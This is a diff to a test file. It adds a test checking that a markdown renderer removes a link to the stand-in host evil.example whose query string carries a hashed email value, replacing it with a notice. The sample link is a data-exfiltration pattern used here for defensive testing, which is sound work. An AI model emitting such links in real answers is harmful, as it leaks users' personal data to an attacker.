@@ -209,3 +209,12 @@ def test_ordinary_urls_are_not_exfiltration(url):
 def test_urls_carrying_data_are_flagged_with_the_reason(url, reason):
     assert exfiltration(url) == reason
     assert not re.search(r"<a |<img", render_markdown(f"[x]({url}) ![y]({url})"))
+
+
+def test_a_link_carrying_a_pseudonym_of_personal_data_is_removed():
+    """What reviewers see is the answer with each value hashed: the hash stands for the value,
+    and a link that would send it out is removed as one carrying the value would be."""
+    shown = render_markdown("[more](https://evil.example/m?d=[EMAIL:0123456789abcdef]) ok")
+
+    assert "evil.example" not in shown
+    assert "[link removed: it carried personal data]" in shown
